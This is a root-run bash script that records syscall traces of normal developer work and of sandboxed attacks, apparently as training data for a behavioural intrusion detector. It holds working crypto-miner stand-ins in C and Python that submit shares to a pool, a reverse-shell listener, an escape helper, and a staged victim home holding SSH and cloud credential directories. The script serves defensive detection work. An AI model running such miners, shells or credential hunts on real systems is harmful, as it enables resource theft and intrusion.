#!/usr/bin/env bash
# The behavioural model's evaluation data sets, recorded with alcub3's own
# telemetry (`alcub3 run --record-traces`): one trace per thread, syscall
# numbers separated by whitespace, the format `integrity evaluate-behavior` reads.
#
#   .build/datasets/train/   normal developer and agent work (odd variants)
#   .build/datasets/normal/  the same kinds of work, other variants (even ones)
#   .build/datasets/attack/  attacks run inside a sandbox
#
# Each run's traces go to a directory of its own (SET/WORKLOAD-VARIANT), so no
# run is in two sets. Every set is wiped and recorded again. Needs root.
#
# Usage: scripts/record-datasets.sh [path/to/alcub3]     (make datasets)
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
ALCUB3=$(realpath "${1:-$ROOT/.build/debug/alcub3}")
OUT=$ROOT/.build/datasets
# Not under /tmp (a sandbox has a private /tmp) nor /root or /home (hidden in sandboxes).
WORK=/var/tmp/alcub3-datasets
ESCAPE=$ROOT/.build/escape/alcub3-escape

[ "$(id -u)" -eq 0 ] || { echo "record-datasets.sh: needs root (BPF, cgroups, namespaces): sudo make datasets" >&2; exit 1; }
[ -x "$ALCUB3" ] || { echo "record-datasets.sh: no alcub3 at $ALCUB3: make build" >&2; exit 1; }
[ -x "$ESCAPE" ] || { echo "record-datasets.sh: no escape helper at $ESCAPE: make escape" >&2; exit 1; }
for tool in gcc make git tar gzip bzip2 xz zip unzip curl nc perl /usr/bin/python3; do
    command -v "$tool" >/dev/null || { echo "record-datasets.sh: $tool is missing: make deps" >&2; exit 1; }
done
/usr/bin/python3 -c 'import pytest, venv, wheel, setuptools' 2>/dev/null \
    || { echo "record-datasets.sh: python3 needs pytest, venv, wheel and setuptools: make deps" >&2; exit 1; }

# The sandbox inherits this environment: no pyenv shims (under /root), a HOME
# each workload makes in its own directory, fixed git identities and no pip
# network or version check.
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
export LANG=C.UTF-8 LC_ALL=C.UTF-8
export GIT_AUTHOR_NAME=Dev GIT_AUTHOR_EMAIL=dev@example.test GIT_COMMITTER_NAME=Dev GIT_COMMITTER_EMAIL=dev@example.test
export PIP_NO_INDEX=1 PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_NO_CACHE_DIR=1 PIP_NO_INPUT=1
unset PYTHONPATH VIRTUAL_ENV PYENV_VERSION

SERVERS=()
cleanup() {
    local pid
    for pid in "${SERVERS[@]}"; do kill "$pid" 2>/dev/null || true; done
    if [ "${KEEP_WORK:-0}" != 1 ]; then rm -rf "$WORK"; fi
}
trap cleanup EXIT

started=$(date +%s)
rm -rf "$OUT/train" "$OUT/normal" "$OUT/attack" "$WORK"
mkdir -p "$OUT/train" "$OUT/normal" "$OUT/attack" "$WORK"/{runs,logs,scripts,fixtures,bin,victim,share}
chmod 755 "$WORK"

# ---------------------------------------------------------------- the runs

# record SET NAME [alcub3 run options] -- CMD...: CMD in a sandbox, in a fresh
# directory of its own; its traces in $OUT/SET/NAME. alcub3 refuses to write
# traces when records were dropped (exit 75): such a run is recorded again.
# Normal work must succeed; an attack may fail (it is often refused).
record() {
    local set=$1 name=$2 dir run log attempt rc
    shift 2
    dir=$OUT/$set/$name run=$WORK/runs/$set-$name log=$WORK/logs/$set-$name
    [ ! -e "$dir" ] || { echo "record-datasets.sh: $set/$name recorded twice" >&2; exit 1; }
    for attempt in 1 2 3; do
        rm -rf "$dir" "$run"
        mkdir -p "$run"
        rc=0
        (cd "$run" && exec "$ALCUB3" run --record-traces "$dir" --agent-id "ds-$set-$name" "$@") \
            >"$log.out" 2>"$log.err" </dev/null || rc=$?
        if [ "$rc" -eq 75 ] && grep -q '^alcub3: error: traces not written' "$log.err" && [ "$attempt" -lt 3 ]; then
            echo "  $set/$name: records were dropped; recording it again"
            continue
        fi
        break
    done
    if grep -q '^alcub3: error:' "$log.err"; then
        echo "record-datasets.sh: $set/$name: $(grep '^alcub3: error:' "$log.err" | head -1)" >&2
        exit 1
    fi
    if [ "$set" != attack ] && [ "$rc" -ne 0 ]; then
        echo "record-datasets.sh: $set/$name failed with exit code $rc; its output:" >&2
        grep -v '^[0-9 ]' "$log.err" | tail -20 >&2
        exit 1
    fi
    local traces
    traces=$(find "$dir" -type f -name '*.trace' | wc -l)
    [ "$traces" -gt 0 ] || { echo "record-datasets.sh: $set/$name left no trace" >&2; exit 1; }
    printf '  %-7s %-16s exit %3d  %4d traces\n' "$set" "$name" "$rc" "$traces"
}

# Odd variants train the model, even ones are the held-out normal work.
split_set() { if [ $(($1 % 2)) -eq 1 ]; then echo train; else echo normal; fi; }

# A host-side server (hostsrv.py MODE ...) in the background: its pid in
# SERVER_PID, its port in SERVER_PORT (not printed: a $(...) would run it in a subshell).
start_server() {
    local portfile=$WORK/share/port.$RANDOM.$RANDOM
    /usr/bin/python3 "$WORK/scripts/hostsrv.py" "$1" "$portfile" "${@:2}" >>"$WORK/logs/server-$1.log" 2>&1 &
    SERVER_PID=$!
    SERVERS+=("$SERVER_PID")
    local i
    for i in $(seq 100); do [ -s "$portfile" ] && break; sleep 0.05; done
    [ -s "$portfile" ] || { echo "record-datasets.sh: the $1 server did not start" >&2; exit 1; }
    SERVER_PORT=$(cat "$portfile")
}

# ------------------------------------------------------------ the fixtures

# A host-side helper: the attacks' counterparts outside the sandbox, on loopback.
#   sink PORTFILE          TCP: reads everything; answers a miner's JSON lines as a pool would
#   http PORTFILE DIR      HTTP: GET /miner serves DIR/miner, anything else is read and answered "ok"
#   shell PORTFILE CMD...  a reverse shell's listener: one connection, CMD one by one, then exit
cat >"$WORK/scripts/hostsrv.py" <<'EOF'
import http.server, json, os, socket, socketserver, sys, threading, time

mode, portfile = sys.argv[1], sys.argv[2]

def announce(port):
    with open(portfile + ".tmp", "w") as f:
        f.write(str(port))
    os.rename(portfile + ".tmp", portfile)

class Sink(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            if b"mining.subscribe" in line:
                job = {"id": 1, "result": {"job": os.urandom(8).hex(), "target": "0000ffff"}}
                self.wfile.write(json.dumps(job).encode() + b"\n")
            elif b"mining.submit" in line:
                self.wfile.write(b'{"id": 2, "result": true}\n')

class Web(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a, **k):
        super().__init__(*a, directory=sys.argv[3], **k)
    def do_GET(self):
        if self.path.startswith("/miner"):
            return super().do_GET()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok\n")
    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(n)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok\n")
    do_PUT = do_POST
    def log_message(self, *a):
        pass

class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

if mode in ("sink", "http"):
    server = Server(("127.0.0.1", 0), Sink if mode == "sink" else Web)
    announce(server.server_address[1])
    server.serve_forever()
elif mode == "shell":
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(30)
    announce(listener.getsockname()[1])
    conn, _ = listener.accept()
    conn.settimeout(0.4)
    def drain():
        try:
            while conn.recv(65536):
                pass
        except OSError:
            pass
    for command in sys.argv[3:] + ["exit"]:
        drain()
        conn.sendall(command.encode() + b"\n")
        time.sleep(0.1)
    conn.settimeout(5)
    drain()
    conn.close()
EOF

# Normal work ----------------------------------------------------------------

cat >"$WORK/scripts/gcc.sh" <<'EOF'
# Compiling and running small C programs, a different mix per variant.
set -eu
v=$1
cat >hello.c <<'C'
#include <stdio.h>
int main(void) { printf("hello, %s\n", "world"); return 0; }
C
cat >list.c <<'C'
#include <stdio.h>
#include <stdlib.h>
struct node { int value; struct node *next; };
int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 1000; struct node *head = NULL; long sum = 0;
    for (int i = 0; i < n; i++) { struct node *x = malloc(sizeof *x); x->value = i; x->next = head; head = x; }
    while (head) { struct node *x = head; sum += x->value; head = x->next; free(x); }
    printf("%ld\n", sum); return 0;
}
C
cat >mathx.c <<'C'
#include <math.h>
#include <stdio.h>
int main(void) { double s = 0; for (int i = 1; i < 100000; i++) s += sin(i) / sqrt(i); printf("%f\n", s); return 0; }
C
cat >util.h <<'C'
int add(int a, int b);
int scale(int a);
C
cat >util.c <<'C'
#include "util.h"
int add(int a, int b) { return a + b; }
int scale(int a) { return a * 3; }
C
cat >app.c <<'C'
#include <stdio.h>
#include "util.h"
int main(void) { int s = 0; for (int i = 0; i < 10; i++) s = add(s, scale(i)); printf("%d\n", s); return 0; }
C
cat >sortx.c <<'C'
#include <stdio.h>
#include <stdlib.h>
static int cmp(const void *a, const void *b) { return *(const int *)a - *(const int *)b; }
int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 10000; int *a = malloc(n * sizeof *a);
    srand(n); for (int i = 0; i < n; i++) a[i] = rand() % 100000;
    qsort(a, n, sizeof *a, cmp); printf("%d %d\n", a[0], a[n - 1]); free(a); return 0;
}
C
cat >threads.c <<'C'
#include <pthread.h>
#include <stdio.h>
static long totals[4];
static void *work(void *arg) { long i = (long)arg; for (long k = 0; k < 200000; k++) totals[i] += k % 7; return NULL; }
int main(void) {
    pthread_t t[4]; for (long i = 0; i < 4; i++) pthread_create(&t[i], NULL, work, (void *)i);
    for (int i = 0; i < 4; i++) pthread_join(t[i], NULL);
    printf("%ld\n", totals[0] + totals[1] + totals[2] + totals[3]); return 0;
}
C
cat >files.c <<'C'
#include <stdio.h>
#include <sys/stat.h>
int main(void) {
    FILE *f = fopen("data.txt", "w"); for (int i = 0; i < 500; i++) fprintf(f, "row %d\n", i); fclose(f);
    struct stat st; stat("data.txt", &st); f = fopen("data.txt", "r"); char line[64]; int n = 0;
    while (fgets(line, sizeof line, f)) n++; fclose(f); printf("%d lines, %ld bytes\n", n, (long)st.st_size); return 0;
}
C
case $v in
1) gcc -O0 -o hello hello.c && ./hello ;;
2) gcc -O2 -Wall -Wextra -o hello hello.c && ./hello && gcc -g -o list list.c && ./list 5000 ;;
3) gcc -O2 -o mathx mathx.c -lm && ./mathx && gcc -S -O2 sortx.c && wc -l sortx.s ;;
4) gcc -c -O2 util.c && gcc -c -O2 app.c && gcc -o app util.o app.o && ./app ;;
5) gcc -O3 -o sortx sortx.c && ./sortx 20000 && gcc -E hello.c | wc -l ;;
6) gcc -c -fPIC util.c && ar rcs libutil.a util.o && gcc -o app app.c -L. -lutil && ./app && nm libutil.a ;;
7) gcc -O2 -pthread -o threads threads.c && ./threads && gcc -std=c11 -pedantic -o files files.c && ./files ;;
8) gcc -std=c11 -Wall -o files files.c && ./files && gcc -g -O1 -o list list.c && ./list 200 && gcc -shared -fPIC -o libutil.so util.c ;;
esac
EOF

cat >"$WORK/scripts/python.py" <<'EOF'
# Python standard-library work: json, sqlite3, hashlib, csv, re, unittest.
import csv, hashlib, io, json, os, random, re, sqlite3, statistics, sys, unittest

v = int(sys.argv[1])
random.seed(v)

def do_json(n):
    records = [{"id": i, "name": f"item{i}", "tags": random.sample(["a", "b", "c", "d"], 2), "price": random.random()}
               for i in range(n)]
    with open("data.json", "w") as f:
        json.dump(records, f, indent=2)
    with open("data.json") as f:
        back = json.load(f)
    print("json", len(back), round(sum(r["price"] for r in back), 3))

def do_sqlite(n):
    db = sqlite3.connect("app.db")
    db.execute("create table users(id integer primary key, name text, age integer)")
    db.execute("create table orders(id integer primary key, user integer, total real)")
    db.executemany("insert into users(name, age) values (?, ?)", [(f"u{i}", random.randint(18, 80)) for i in range(n)])
    db.executemany("insert into orders(user, total) values (?, ?)",
                   [(random.randint(1, n), random.random() * 100) for _ in range(n * 2)])
    db.execute("create index orders_user on orders(user)")
    db.commit()
    rows = db.execute("select u.name, sum(o.total) from users u join orders o on o.user = u.id "
                      "group by u.id order by 2 desc limit 5").fetchall()
    print("sqlite", rows[0][0])
    db.close()

def do_hash(n):
    os.makedirs("blobs", exist_ok=True)
    for i in range(n):
        with open(f"blobs/{i}.bin", "wb") as f:
            f.write(os.urandom(random.randint(1000, 50000)))
    digest = hashlib.sha256()
    for name in sorted(os.listdir("blobs")):
        with open("blobs/" + name, "rb") as f:
            data = f.read()
        digest.update(hashlib.md5(data).digest() + hashlib.sha1(data).digest())
    print("hash", digest.hexdigest()[:16])

def do_csv(n):
    with open("table.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["city", "temp", "when"])
        for i in range(n):
            w.writerow([random.choice(["Oslo", "Lima", "Pune"]), round(random.gauss(15, 8), 1), f"2024-01-{i % 28 + 1:02d}"])
    with open("table.csv") as f:
        rows = list(csv.DictReader(f))
    temps = [float(r["temp"]) for r in rows if re.match(r"2024-01-0\d", r["when"])]
    print("csv", round(statistics.mean(temps), 2), round(statistics.pstdev(temps), 2))

def do_unittest(count):
    with open("shapes.py", "w") as f:
        f.write("def area(w, h):\n    return w * h\n\ndef perimeter(w, h):\n    return 2 * (w + h)\n")
    sys.path.insert(0, os.getcwd())
    import shapes
    class ShapeTests(unittest.TestCase):
        pass
    for i in range(count):
        setattr(ShapeTests, f"test_area_{i}", lambda self, i=i: self.assertEqual(shapes.area(i, 2), 2 * i))
        setattr(ShapeTests, f"test_perimeter_{i}", lambda self, i=i: self.assertEqual(shapes.perimeter(i, 1), 2 * i + 2))
    result = unittest.TextTestRunner(stream=io.StringIO()).run(unittest.defaultTestLoader.loadTestsFromTestCase(ShapeTests))
    assert result.wasSuccessful()
    print("unittest", result.testsRun)

plans = {1: [(do_json, 2000)], 2: [(do_sqlite, 500)], 3: [(do_hash, 40)], 4: [(do_unittest, 10)],
         5: [(do_json, 500), (do_hash, 20)], 6: [(do_sqlite, 2000), (do_csv, 300)],
         7: [(do_unittest, 30), (do_json, 100)], 8: [(do_csv, 1000), (do_hash, 10), (do_sqlite, 100)]}
for task, size in plans[v]:
    task(size)
EOF

cat >"$WORK/scripts/git.sh" <<'EOF'
# Version control in a fresh repository: commits, logs, diffs, branches.
set -eu
v=$1
export HOME=$PWD/home && mkdir -p "$HOME"
git init -q -b main repo && cd repo
for i in $(seq 1 $((v + 3))); do
    printf 'line %d of change %d\n' "$i" "$v" >>"file$((i % 3)).txt"
    mkdir -p "dir$((i % 2))" && date +%N >"dir$((i % 2))/stamp$i"
    git add -A && git commit -q -m "change $i"
done
git log --oneline | head -5
git diff HEAD~1 --stat
git status --short
case $v in
1) git show --stat HEAD ;;
2) git blame file1.txt | head -3 ;;
3) git checkout -q -b topic && echo topic >>file0.txt && git commit -qam topic && git checkout -q main && git merge -q --no-edit topic ;;
4) git tag v1.0 && git describe --tags && git log -p -2 | wc -l ;;
5) git grep -n line | head -3 && git shortlog -sn ;;
6) echo wip >>file2.txt && git stash -q && git stash list && git stash pop -q && git diff | wc -l ;;
7) git checkout -q -b feature && git rm -q file0.txt && git commit -qm remove && git checkout -q main && git diff main feature --name-only ;;
8) git log --format='%h %an %s' --reverse | tail -3 && git rev-list --count HEAD && git gc -q --auto ;;
esac
EOF

cat >"$WORK/scripts/pip.sh" <<'EOF'
# Packaging from a local index only: wheels built here, installed from them.
set -eu
v=$1 fixtures=$2
export HOME=$PWD/home && mkdir -p "$HOME"
cp -r "$fixtures/tinypkg" "$fixtures/tinyutil" .
wheel() { python3 -m pip wheel -q --no-deps --no-build-isolation -w wheels "$@"; }
case $v in
1) wheel ./tinypkg && ls wheels ;;
2) wheel ./tinypkg && python3 -m pip install -q --find-links wheels --target site tinypkg
   PYTHONPATH=site python3 -c 'import tinypkg; print(tinypkg.greet("x"))' ;;
3) wheel ./tinypkg ./tinyutil && python3 -m venv env && env/bin/pip install -q --find-links wheels tinyutil
   env/bin/python -c 'import tinyutil; print(tinyutil.shout("x"))' ;;
4) wheel ./tinypkg && python3 -m pip install -q --find-links wheels --target site tinypkg && python3 -m pip list --path site ;;
5) wheel ./tinypkg && python3 -m venv env && env/bin/pip install -q --find-links wheels tinypkg
   env/bin/pip show tinypkg && env/bin/pip uninstall -q -y tinypkg ;;
6) python3 -m pip install -q --no-build-isolation --target site ./tinypkg && ls site ;;
7) wheel ./tinypkg ./tinyutil && python3 -m pip install -q --find-links wheels --target site tinyutil
   PYTHONPATH=site python3 -c 'import tinyutil; print(tinyutil.shout("y"))' ;;
8) wheel ./tinypkg ./tinyutil && python3 -m pip download -q --find-links wheels -d downloaded tinyutil
   python3 -m pip install -q --find-links downloaded --target site tinyutil && ls downloaded ;;
esac
EOF

cat >"$WORK/scripts/archive.sh" <<'EOF'
# Archives and compression of a source tree.
set -eu
v=$1
cp -r /usr/include/linux tree
case $v in
1) tar czf tree.tgz tree && tar tzf tree.tgz | wc -l ;;
2) tar cjf tree.tbz tree && mkdir out && tar xjf tree.tbz -C out && diff -r tree out/tree ;;
3) tar cJf tree.txz tree && xz -l tree.txz ;;
4) gzip -9 -r tree && find tree -name '*.gz' | wc -l && gunzip -r tree ;;
5) zip -qr tree.zip tree && unzip -l tree.zip | tail -1 && unzip -q tree.zip -d out ;;
6) tar czf tree.tgz tree && mkdir out && tar xzf tree.tgz -C out && diff -rq tree out/tree && sha256sum tree.tgz ;;
7) tar --exclude='*netfilter*' -czf part.tgz tree && tar tzf part.tgz | grep -c netfilter || true ;;
8) tar cf tree.tar tree && bzip2 -k tree.tar && gzip -k tree.tar && ls -l tree.tar* ;;
esac
EOF

cat >"$WORK/scripts/testsuite.sh" <<'EOF'
# A small project's test suite, with unittest and pytest.
set -eu
v=$1 fixtures=$2
export HOME=$PWD/home && mkdir -p "$HOME"
cp -r "$fixtures/calcproj" . && cd calcproj
case $v in
1) python3 -m unittest discover -q -s tests ;;
2) python3 -m pytest -q tests ;;
3) python3 -m unittest -v tests.test_calc ;;
4) python3 -m pytest -q -k add tests ;;
5) python3 -m pytest -x --tb=short -q tests ;;
6) python3 -m unittest discover -s tests -p 'test_*.py' ;;
7) python3 -m pytest -q -p no:cacheprovider tests ;;
8) python3 -m pytest --collect-only -q tests && python3 -m pytest -q tests ;;
esac
EOF

cat >"$WORK/scripts/text.sh" <<'EOF'
# Text tools over a tree: sed, awk, grep, find, sort.
set -eu
v=$1
cp -r /usr/include/linux tree
case $v in
1) grep -rl '#define' tree | wc -l && find tree -name '*.h' -size +8k | head -3 ;;
2) find tree -type f | xargs wc -l | sort -n | tail -3 ;;
3) awk '/#define/ { n++ } END { print n }' tree/*.h && sed -n '1,5p' tree/kernel.h ;;
4) grep -rhoE '__u(8|16|32|64)' tree | sort | uniq -c | sort -rn ;;
5) sed -i 's/__u32/uint32_t/g' tree/if_*.h && grep -c uint32_t tree/if_ether.h || true ;;
6) find tree -name '*.h' -newer tree/kernel.h -o -name 'netf*' | head && du -sh tree ;;
7) awk -F'[ \t]+' '$1 == "#define" { print $2 }' tree/*.h | sort -u | wc -l && tr -s ' ' <tree/types.h | cut -c1-20 | head -5 ;;
8) grep -rn 'struct' tree | awk -F: '{ print $1 }' | uniq -c | sort -rn | head -5 && find tree -empty ;;
esac
EOF

cat >"$WORK/scripts/make.sh" <<'EOF'
# A C project built with make.
set -eu
v=$1 fixtures=$2
cp -r "$fixtures/makeproj" . && cd makeproj
case $v in
1) make ;;
2) make -j2 && make test ;;
3) make test ;;
4) make && make clean && make all ;;
5) make lib ;;
6) make CFLAGS='-O2 -Wall' && ./calc 7 ;;
7) make -B -j2 ;;
8) make -n && make && make clean ;;
esac
EOF

mkdir -p "$WORK/fixtures/tinypkg/tinypkg" "$WORK/fixtures/tinyutil/tinyutil"
printf 'def greet(name):\n    return "hello " + name\n' >"$WORK/fixtures/tinypkg/tinypkg/__init__.py"
printf '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "tinypkg"\nversion = "0.1.0"\n' \
    >"$WORK/fixtures/tinypkg/pyproject.toml"
printf 'import tinypkg\n\ndef shout(name):\n    return tinypkg.greet(name).upper()\n' >"$WORK/fixtures/tinyutil/tinyutil/__init__.py"
printf '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "tinyutil"\nversion = "0.2.0"\ndependencies = ["tinypkg>=0.1"]\n' \
    >"$WORK/fixtures/tinyutil/pyproject.toml"

mkdir -p "$WORK/fixtures/calcproj/tests"
cat >"$WORK/fixtures/calcproj/calc.py" <<'EOF'
def add(a, b):
    return a + b

def divide(a, b):
    if b == 0:
        raise ZeroDivisionError("b is zero")
    return a / b

def mean(values):
    return sum(values) / len(values)
EOF
touch "$WORK/fixtures/calcproj/tests/__init__.py"
cat >"$WORK/fixtures/calcproj/tests/test_calc.py" <<'EOF'
import os, sys, unittest
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import calc

class CalcTests(unittest.TestCase):
    def test_add(self):
        self.assertEqual(calc.add(2, 3), 5)
    def test_add_negative(self):
        self.assertEqual(calc.add(-2, -3), -5)
    def test_divide(self):
        self.assertAlmostEqual(calc.divide(1, 3), 0.3333, places=3)
    def test_divide_by_zero(self):
        with self.assertRaises(ZeroDivisionError):
            calc.divide(1, 0)
    def test_mean(self):
        self.assertEqual(calc.mean([1, 2, 3, 4]), 2.5)
EOF

mkdir -p "$WORK/fixtures/makeproj"
printf 'int add(int a, int b) { return a + b; }\n' >"$WORK/fixtures/makeproj/add.c"
printf 'int mul(int a, int b) { return a * b; }\n' >"$WORK/fixtures/makeproj/mul.c"
cat >"$WORK/fixtures/makeproj/main.c" <<'EOF'
#include <stdio.h>
#include <stdlib.h>
int add(int, int);
int mul(int, int);
int main(int argc, char **argv) { int n = argc > 1 ? atoi(argv[1]) : 5; printf("%d %d\n", add(n, n), mul(n, n)); return 0; }
EOF
cat >"$WORK/fixtures/makeproj/Makefile" <<'EOF'
CFLAGS ?= -O1
OBJS = add.o mul.o
all: calc
calc: main.o $(OBJS)
	$(CC) $(CFLAGS) -o $@ $^
%.o: %.c
	$(CC) $(CFLAGS) -c -o $@ $<
lib: libcalc.a
libcalc.a: $(OBJS)
	ar rcs $@ $^
test: calc
	./calc 3 | grep -q '^6 9$$' && echo ok
clean:
	rm -f calc *.o *.a
.PHONY: all lib test clean
EOF

# GNU make starts recipes with posix_spawn(POSIX_SPAWN_RESETIDS), whose
# seteuid(getuid()) is a setresuid that the default filter refuses as an
# escape syscall (every uid change is one), so the recipe fails. make's
# runs get a filter that allows setresuid and setresgid, and keeps refusing
# the other escape syscalls (their list read from Sources/Sandbox/Seccomp.swift).
/usr/bin/python3 - "$ROOT/Sources/Sandbox/Seccomp.swift" >"$WORK/share/make-seccomp.json" <<'EOF'
import json, re, sys
block = re.search(r"escapeSyscalls: \[String\] = \[(.*?)\]", open(sys.argv[1]).read(), re.S).group(1)
names = [n for n in re.findall(r'"([a-z0-9_]+)"', block) if n not in ("setresuid", "setresgid")]
print(json.dumps({"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [{"names": names, "action": "SCMP_ACT_ERRNO"}]}))
EOF

# Attacks -----------------------------------------------------------------------

cp "$ESCAPE" "$WORK/bin/alcub3-escape"

# A crypto-miner stand-in: SHA-256 of a block header with an increasing nonce
# on N threads for S seconds, shares sent to a pool (JSON lines) when one is given.
cat >"$WORK/share/miner.c" <<'EOF'
#include <arpa/inet.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const uint32_t K[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2};
#define ROR(x, n) (((x) >> (n)) | ((x) << (32 - (n))))

/* SHA-256 of one 64-byte block (the header with its padding already in place). */
static void sha256_block(const uint8_t *block, uint32_t out[8]) {
    uint32_t h[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};
    uint32_t w[64];
    for (int i = 0; i < 16; i++)
        w[i] = (uint32_t)block[4 * i] << 24 | block[4 * i + 1] << 16 | block[4 * i + 2] << 8 | block[4 * i + 3];
    for (int i = 16; i < 64; i++) {
        uint32_t s0 = ROR(w[i - 15], 7) ^ ROR(w[i - 15], 18) ^ (w[i - 15] >> 3);
        uint32_t s1 = ROR(w[i - 2], 17) ^ ROR(w[i - 2], 19) ^ (w[i - 2] >> 10);
        w[i] = w[i - 16] + s0 + w[i - 7] + s1;
    }
    uint32_t a = h[0], b = h[1], c = h[2], d = h[3], e = h[4], f = h[5], g = h[6], k = h[7];
    for (int i = 0; i < 64; i++) {
        uint32_t t1 = k + (ROR(e, 6) ^ ROR(e, 11) ^ ROR(e, 25)) + ((e & f) ^ (~e & g)) + K[i] + w[i];
        uint32_t t2 = (ROR(a, 2) ^ ROR(a, 13) ^ ROR(a, 22)) + ((a & b) ^ (a & c) ^ (b & c));
        k = g; g = f; f = e; e = d + t1; d = c; c = b; b = a; a = t1 + t2;
    }
    out[0] = h[0] + a; out[1] = h[1] + b; out[2] = h[2] + c; out[3] = h[3] + d;
    out[4] = h[4] + e; out[5] = h[5] + f; out[6] = h[6] + g; out[7] = h[7] + k;
}

static double seconds;
static int pool = -1;
static pthread_mutex_t pool_lock = PTHREAD_MUTEX_INITIALIZER;

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static void *mine(void *arg) {
    uint8_t block[64] = {0};
    uint32_t hash[8], nonce = 0, id = (uint32_t)(uintptr_t)arg;
    memcpy(block, "alcub3-block-header", 19);
    block[55] = 0x80; block[62] = 0x01; block[63] = 0xb8;  /* padding: 55 bytes of message */
    double end = now() + seconds;
    for (;;) {
        memcpy(block + 20, &nonce, 4); memcpy(block + 24, &id, 4);
        sha256_block(block, hash);
        if ((hash[0] >> 16) == 0 && pool >= 0) {
            char line[128];
            int n = snprintf(line, sizeof line, "{\"method\": \"mining.submit\", \"params\": [%u, %u]}\n", id, nonce);
            pthread_mutex_lock(&pool_lock);
            if (write(pool, line, n) == n) (void)read(pool, line, sizeof line);
            pthread_mutex_unlock(&pool_lock);
        }
        if ((++nonce & 0xffff) == 0 && now() > end) break;
    }
    return NULL;
}

int main(int argc, char **argv) {
    int threads = argc > 1 ? atoi(argv[1]) : 1;
    seconds = argc > 2 ? atof(argv[2]) : 2;
    if (argc > 3) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
        inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
        pool = socket(AF_INET, SOCK_STREAM, 0);
        char line[256] = "{\"method\": \"mining.subscribe\", \"params\": [\"miner/1.0\"]}\n";
        if (connect(pool, (struct sockaddr *)&a, sizeof a) != 0 || write(pool, line, strlen(line)) < 0 ||
            read(pool, line, sizeof line) <= 0) { close(pool); pool = -1; }
    }
    pthread_t t[16];
    if (threads < 1 || threads > 16) threads = 1;
    for (int i = 0; i < threads; i++) pthread_create(&t[i], NULL, mine, (void *)(uintptr_t)i);
    for (int i = 0; i < threads; i++) pthread_join(t[i], NULL);
    return 0;
}
EOF
gcc -O2 -pthread -o "$WORK/share/miner" "$WORK/share/miner.c"

cat >"$WORK/scripts/miner.py" <<'EOF'
# A crypto-miner stand-in in Python: SHA-256 with an increasing nonce.
import hashlib, json, os, socket, struct, sys, threading, time

def grind(seconds, worker, pool=None):
    end, nonce, header = time.monotonic() + seconds, 0, b"alcub3-block-header-%d" % worker
    while True:
        digest = hashlib.sha256(hashlib.sha256(header + struct.pack("<I", nonce)).digest()).digest()
        if digest[:2] == b"\0\0" and pool:
            pool.sendall(json.dumps({"method": "mining.submit", "params": [worker, nonce]}).encode() + b"\n")
            pool.recv(256)
        nonce += 1
        if nonce % 4096 == 0 and time.monotonic() > end:
            return nonce

mode, seconds = sys.argv[1], float(sys.argv[2])
if mode == "single":
    grind(seconds, 0)
elif mode == "threads":
    workers = [threading.Thread(target=grind, args=(seconds, i)) for i in range(2)]
    [w.start() for w in workers]
    [w.join() for w in workers]
elif mode == "processes":
    # os.fork, not multiprocessing: its semaphores need a writable /dev/shm.
    children = []
    for worker in range(2):
        pid = os.fork()
        if pid == 0:
            grind(seconds, worker)
            os._exit(0)
        children.append(pid)
    [os.waitpid(pid, 0) for pid in children]
elif mode == "pool":
    s = socket.create_connection(("127.0.0.1", int(sys.argv[3])))
    s.sendall(b'{"method": "mining.subscribe", "params": ["pyminer/0.1"]}\n')
    s.recv(256)
    grind(seconds, 0, s)
EOF

# What an attacker looks for: keys and tokens in a home, secrets in a project.
victim=$WORK/victim
mkdir -p "$victim/home/.ssh" "$victim/home/.aws" "$victim/home/.config/gcloud" "$victim/home/.docker" "$victim/home/.kube" \
    "$victim/project/config" "$victim/project/src" "$victim/project/docs"
